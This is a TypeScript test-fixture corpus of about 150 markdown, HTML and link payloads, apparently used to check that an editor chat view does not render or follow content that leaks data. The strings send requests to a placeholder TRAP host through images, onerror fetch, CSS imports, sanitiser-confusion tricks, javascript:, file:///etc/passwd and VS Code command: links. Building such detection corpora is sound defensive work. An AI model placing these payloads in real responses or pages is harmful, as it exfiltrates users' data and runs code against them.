// What an answer could hold to make the chat send something out, run something or open something. Data only: TRAP is
// a host whose every connection is noticed, LOOPBACK the same by address.

/** `html` does harm as a page; `markdown` as what it could be rendered to; `link` when it is clicked. */
export type Kind = "html" | "markdown" | "link";

export interface ExfiltrationCase {
  kind: Kind;
  name: string;
  text: string;
}

type Row = [name: string, text: string];

const MARKDOWN: Row[] = [
  ["image", "![chart](http://TRAP/exfil-md-1?q=secret)"],
  ["image over https", "![chart](https://TRAP/exfil-md-2)"],
  ["image with a title", '![chart](http://TRAP/exfil-md-3 "A chart")'],
  ["image in angle brackets", "![chart](<http://TRAP/exfil-md-4>)"],
  ["image without a scheme", "![chart](//TRAP/exfil-md-5)"],
  ["image with backslashes", "![chart](\\\\\\\\TRAP\\exfil-md-6)"],
  ["image by reference", "![chart][c]\n\n[c]: http://TRAP/exfil-md-7"],
  ["image by collapsed reference", "![chart][]\n\n[chart]: http://TRAP/exfil-md-8"],
  ["image by reference given first", "[c]: http://TRAP/exfil-md-9\n\n![chart][c]"],
  ["image in a link", "[![chart](http://TRAP/exfil-md-10)](http://TRAP/exfil-md-10b)"],
  ["image in a heading", "# A ![chart](http://TRAP/exfil-md-11)"],
  ["image in a list in a quotation", "> - a\n>   - ![chart](http://TRAP/exfil-md-12)"],
  ["image in a table", "| a | b |\n|---|---|\n| ![c](http://TRAP/exfil-md-13) | x |"],
  ["image in emphasis", "**_~~![chart](http://TRAP/exfil-md-14)~~_**"],
  ["image with an entity in its scheme", "![chart](&#104;ttp://TRAP/exfil-md-15)"],
  ["image with a tab in its scheme", "![chart](<ht\ttp://TRAP/exfil-md-16>)"],
  ["image by address of this machine", "![chart](http://LOOPBACK/exfil-md-17)"],
  ["image that is SVG in data:", "![c](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)"],
  ["image from the disk", "![c](file:///etc/passwd?exfil-md-19)"],
  ["image from the extension", "![c](vscode-resource://file///etc/passwd?exfil-md-20)"],
  ["image from the editor's files", "![c](vscode-file://vscode-app/etc/passwd?exfil-md-21)"],
  ["image with an attribute in its text", '![x" onerror="fetch(`http://TRAP/exfil-md-22`)](x)'],
  ["image with an attribute in its address", '![x](http://TRAP/exfil-md-23"onerror="alert(1))'],
  ["image size syntax", "![chart](http://TRAP/exfil-md-24 =100x100)"],
  ["image with an attribute list", "![chart](http://TRAP/exfil-md-25){srcset=http://TRAP/exfil-md-25b}"],
  ["image, half of it", "![chart](http://TRAP/exfil-md-26"],
  ["footnote", "a[^1]\n\n[^1]: ![c](http://TRAP/exfil-md-27)"],
  ["link definition that styles itself", '[c]: <javascript:alert(1)> "exfil-md-28"\n\n[c]'],
  [
    "math, dollar signs",
    "$\\includegraphics{http://TRAP/exfil-md-29}$ and $$\\href{javascript:alert(1)}{x}$$",
  ],
  ["math, \\url and \\htmlData", "\\(\\url{http://TRAP/exfil-md-30}\\) \\[\\htmlData{src=http://TRAP}{x}\\]"],
  ["math fence", "```math\n\\includegraphics{http://TRAP/exfil-md-31}\n```"],
  ["mermaid with a click", '```mermaid\ngraph TD\n  A-->B\n  click A href "http://TRAP/exfil-md-32"\n```'],
  [
    "mermaid with an image in a label",
    "```mermaid\ngraph TD\n  A[\"<img src='http://TRAP/exfil-md-33'>\"]\n```",
  ],
  [
    "mermaid with a style",
    "```mermaid\n%%{init: {'themeCSS': '@import url(http://TRAP/exfil-md-34)'}}%%\n```",
  ],
  ["plantuml include", "```plantuml\n@startuml\n!include http://TRAP/exfil-md-35\n@enduml\n```"],
  ["svg fence", '```svg\n<svg><image href="http://TRAP/exfil-md-36"/></svg>\n```'],
  ["html fence", "```html\n<img src=http://TRAP/exfil-md-37>\n```"],
  ["fence with a tag for a language", "```<img/src=http://TRAP/exfil-md-38>\ncode\n```"],
  [
    "fence with an attribute for a language",
    '```js" onmouseover="fetch(`http://TRAP/exfil-md-39`)\ncode\n```',
  ],
  ["css fence", "```css\n@import url(http://TRAP/exfil-md-40);\n```"],
  ["front matter", "---\nimage: http://TRAP/exfil-md-41\n---\n\n![c](http://TRAP/exfil-md-41b)"],
  ["code span that is left open", "`![c](http://TRAP/exfil-md-42)\n\n![c](http://TRAP/exfil-md-42b)"],
  ["deep nesting", `${"> ".repeat(40)}![c](http://TRAP/exfil-md-43)`],
  [
    "task list",
    '- [ ] ![c](http://TRAP/exfil-md-44)\n- [x] <input type="image" src="http://TRAP/exfil-md-44b">',
  ],
];

const HTML: Row[] = [
  ["img", '<img src="http://TRAP/exfil-html-1">'],
  ["img srcset", '<img srcset="http://TRAP/exfil-html-2 1x, http://TRAP/exfil-html-2b 2x">'],
  ["picture", '<picture><source srcset="http://TRAP/exfil-html-3"><img src="x"></picture>'],
  ["img onerror", "<img src=x onerror=\"fetch('http://TRAP/exfil-html-4')\">"],
  ["img by address", '<img src="http://LOOPBACK/exfil-html-5">'],
  ["script", '<script src="http://TRAP/exfil-html-6"></script>'],
  ["script, inline", "<script>fetch('http://TRAP/exfil-html-7')</script>"],
  ["script, module", '<script type="module">import "http://TRAP/exfil-html-8"</script>'],
  ["style import", "<style>@import url(http://TRAP/exfil-html-9);</style>"],
  ["style background", '<style>body{background:url("http://TRAP/exfil-html-10")}</style>'],
  [
    "style font",
    '<style>@font-face{font-family:f;src:url("http://TRAP/exfil-html-11")}p{font-family:f}</style><p>x</p>',
  ],
  ["style by attribute", '<p style="background:url(http://TRAP/exfil-html-12)">x</p>'],
  [
    "style by attribute, image-set",
    "<p style=\"background:image-set('http://TRAP/exfil-html-13' 1x)\">x</p>",
  ],
  ["style cursor", '<p style="cursor:url(http://TRAP/exfil-html-14),auto">x</p>'],
  ["style list image", '<ul style="list-style-image:url(http://TRAP/exfil-html-15)"><li>x</li></ul>'],
  [
    "style that reads an attribute",
    '<style>input[value^="s"]{background:url(http://TRAP/exfil-html-16)}</style><input value="secret">',
  ],
  ["link stylesheet", '<link rel="stylesheet" href="http://TRAP/exfil-html-17">'],
  ["link prefetch", '<link rel="prefetch" href="http://TRAP/exfil-html-18">'],
  ["link preload", '<link rel="preload" as="image" href="http://TRAP/exfil-html-19">'],
  ["link modulepreload", '<link rel="modulepreload" href="http://TRAP/exfil-html-20">'],
  ["link preconnect", '<link rel="preconnect" href="http://TRAP">'],
  ["link dns-prefetch", '<link rel="dns-prefetch" href="//exfil-secret.TRAP">'],
  ["link prerender", '<link rel="prerender" href="http://TRAP/exfil-html-23">'],
  ["link icon", '<link rel="icon" href="http://TRAP/exfil-html-24">'],
  ["link manifest", '<link rel="manifest" href="http://TRAP/exfil-html-25">'],
  ["iframe", '<iframe src="http://TRAP/exfil-html-26"></iframe>'],
  ["iframe srcdoc", '<iframe srcdoc="<img src=http://TRAP/exfil-html-27>"></iframe>'],
  ["frameset", '<frameset><frame src="http://TRAP/exfil-html-28"></frameset>'],
  ["object", '<object data="http://TRAP/exfil-html-29"></object>'],
  ["embed", '<embed src="http://TRAP/exfil-html-30">'],
  ["video", '<video src="http://TRAP/exfil-html-31" autoplay muted></video>'],
  ["video poster", '<video poster="http://TRAP/exfil-html-32"></video>'],
  ["audio source", '<audio autoplay><source src="http://TRAP/exfil-html-33"></audio>'],
  ["track", '<video><track default kind="captions" src="http://TRAP/exfil-html-34"></video>'],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=http://TRAP/exfil-html-35">'],
  ["base", '<base href="http://TRAP/exfil-html-36/"><img src="relative">'],
  [
    "form that submits itself",
    '<form id="f" action="http://TRAP/exfil-html-37"></form><img src=x onerror="f.submit()">',
  ],
  [
    "form, with a button",
    '<form action="http://TRAP/exfil-html-38"><input name="q" value="secret"><button>Send</button></form>',
  ],
  [
    "button with a target of its own",
    '<form><button formaction="http://TRAP/exfil-html-39">Send</button></form>',
  ],
  ["input image", '<input type="image" src="http://TRAP/exfil-html-40">'],
  ["body background", '<body background="http://TRAP/exfil-html-41">'],
  ["table background", '<table background="http://TRAP/exfil-html-42"><tr><td>x</td></tr></table>'],
  ["svg image", '<svg><image href="http://TRAP/exfil-html-43"/></svg>'],
  ["svg use", '<svg><use href="http://TRAP/exfil-html-44#x"/></svg>'],
  ["svg onload", "<svg onload=\"fetch('http://TRAP/exfil-html-45')\"></svg>"],
  ["svg foreignObject", '<svg><foreignObject><img src="http://TRAP/exfil-html-46"></foreignObject></svg>'],
  [
    "svg feImage",
    '<svg><filter id="i"><feImage href="http://TRAP/exfil-html-47"/></filter><rect filter="url(#i)" width="9" height="9"/></svg>',
  ],
  ["svg style", "<svg><style>@import url(http://TRAP/exfil-html-48)</style></svg>"],
  ["svg fill by url", '<svg><rect fill="url(http://TRAP/exfil-html-49#x)" width="9" height="9"/></svg>'],
  [
    "svg animated address",
    '<svg><image><animate attributeName="href" values="http://TRAP/exfil-html-50"/></image></svg>',
  ],
  [
    "details that opens",
    "<details open ontoggle=\"fetch('http://TRAP/exfil-html-51')\"><summary>x</summary></details>",
  ],
  ["autofocus", "<input autofocus onfocus=\"fetch('http://TRAP/exfil-html-52')\">"],
  ["marquee", "<marquee onstart=\"fetch('http://TRAP/exfil-html-53')\">x</marquee>"],
  [
    "animation event",
    '<style>@keyframes k{}</style><p style="animation:k" onanimationstart="fetch(\'http://TRAP/exfil-html-54\')">x</p>',
  ],
  [
    "shadow root",
    '<div><template shadowrootmode="open"><img src="http://TRAP/exfil-html-55"></template></div>',
  ],
  ["noscript confusion", '<noscript><p title="</noscript><img src=http://TRAP/exfil-html-56>"></noscript>'],
  ["style confusion in svg", '<svg></p><style><a id="</style><img src=http://TRAP/exfil-html-57>">'],
  [
    "mathml confusion",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=http://TRAP/exfil-html-58&gt;">',
  ],
  ["comment confusion", "<!--><img src=http://TRAP/exfil-html-59>-->"],
  ["CDATA", "<svg><![CDATA[><img src=http://TRAP/exfil-html-60>]]></svg>"],
  ["xml-stylesheet", '<?xml-stylesheet href="http://TRAP/exfil-html-61"?><p>x</p>'],
  ["textarea confusion", "<textarea></textarea><img src=http://TRAP/exfil-html-62>"],
  ["uppercase, without spaces", "<IMG/SRC=http://TRAP/exfil-html-63>"],
  ["in a paragraph", "before <img src=http://TRAP/exfil-html-64> after"],
  ["in a table cell", "| a |\n|---|\n| <img src=http://TRAP/exfil-html-65> |"],
  ["never closed", "<img src=http://TRAP/exfil-html-66 "],
  ["popup", "<img src=x onerror=\"window.open('http://TRAP/exfil-html-67')\">"],
  ["top navigation", "<img src=x onerror=\"top.location='http://TRAP/exfil-html-68'\">"],
  ["websocket", "<img src=x onerror=\"new WebSocket('ws://TRAP/exfil-html-69')\">"],
  ["beacon", "<img src=x onerror=\"navigator.sendBeacon('http://TRAP/exfil-html-70','x')\">"],
];

const LINKS: Row[] = [
  ["web page", "[read](http://TRAP/exfil-link-1?q=secret)"],
  ["bare address", "see http://TRAP/exfil-link-2 there"],
  ["bare www", "see www.TRAP/exfil-link-3"],
  ["autolink", "<http://TRAP/exfil-link-4>"],
  ["by reference", "[read][r]\n\n[r]: http://TRAP/exfil-link-5"],
  ["HTML link", '<a href="http://TRAP/exfil-link-6">read</a>'],
  ["HTML link that pings", '<a href="http://TRAP/exfil-link-7" ping="http://TRAP/exfil-link-7b">read</a>'],
  ["HTML link with a download", '<a href="http://TRAP/exfil-link-8" download target="_blank">read</a>'],
  ["area of a map", '<map><area href="http://TRAP/exfil-link-9" shape="default"></map>'],
  ["user in the address", "[bank](http://bank.test@TRAP/exfil-link-10)"],
  ["text that names another address", "[https://bank.test](http://TRAP/exfil-link-11)"],
  [
    "homograph",
    "[apple](http://xn--80ak6aa92e.TRAP/exfil-link-12) [аpple](http://аррӏе.TRAP/exfil-link-12b)",
  ],
  ["turned direction", "[x](http://TRAP/exfil-link-13\u202etxt.exe)"],
  ["invisible characters", "[x](http://TR\u200bAP/exfil-link-14)"],
  ["number for an address", "[x](http://2130706433/exfil-link-15)"],
  ["javascript", "[run](javascript:fetch('http://TRAP/exfil-link-16'))"],
  ["javascript, mixed case", "[run](JaVaScRiPt:alert(1))"],
  ["javascript, entity", "[run](&#106;avascript:alert(1))"],
  ["javascript, line break", "[run](<java\tscript:alert(1)>)"],
  ["javascript, control character", "[run](\u0001javascript:alert(1))"],
  ["javascript in HTML", "<a href=\"javascript:fetch('http://TRAP/exfil-link-21')\">run</a>"],
  ["vbscript", "[run](vbscript:msgbox(1))"],
  ["data", "[open](data:text/html,<script>alert(1)</script>)"],
  ["data, base64", "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
  ["command", "[run](command:workbench.action.files.newUntitledFile)"],
  [
    "command with arguments",
    "[run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22ls%22%7D)",
  ],
  ["command of our own", "[run](command:edgequake.setApiKey) <a href='command:edgequake.newChat'>run</a>"],
  ["command, autolink", "<command:workbench.action.files.newUntitledFile>"],
  ["vscode", "[open](vscode://ms-python.python/exfil) [open](vscode-insiders://x/exfil)"],
  ["file", "[open](file:///etc/passwd) <file:///etc/passwd>"],
  ["file of another machine", "[open](file://TRAP/exfil-link-31) [open](\\\\\\\\TRAP\\share)"],
  ["programs of the system", "[x](ms-msdt:/id) [x](search-ms:query=x) [x](ssh://TRAP/) [x](tel:110)"],
  ["blob, about, view-source", "[x](blob:http://TRAP/x) [x](about:blank) [x](view-source:http://TRAP)"],
  ["ftp", "[x](ftp://TRAP/exfil-link-34)"],
  ["without a scheme", "[x](//TRAP/exfil-link-35) [x](/exfil) [x](exfil) [x](?exfil) [x](#exfil)"],
  ["mail with a hidden body", "[write](mailto:a@TRAP?body=secret&attach=/etc/passwd)"],
  ["attribute in the title", '[x](http://TRAP/exfil-link-37 "a\\" onmouseover=\\"alert(1)")'],
  ["attribute in the address", '[x](http://TRAP/exfil-link-38"onclick="alert(1))'],
  ["link in a link", "[a [b](javascript:alert(1)) c](http://TRAP/exfil-link-39)"],
];

/** The corpus with the trap's hosts in place. */
export function exfiltrationCases(trap: { host: string; loopback: string }): ExfiltrationCase[] {
  const fill = (text: string): string =>
    text.replaceAll("TRAP", trap.host).replaceAll("LOOPBACK", trap.loopback);
  const of = (kind: Kind, rows: Row[]): ExfiltrationCase[] =>
    rows.map(([name, text]) => ({ kind, name, text: fill(text) }));
  return [...of("markdown", MARKDOWN), ...of("html", HTML), ...of("link", LINKS)];
}
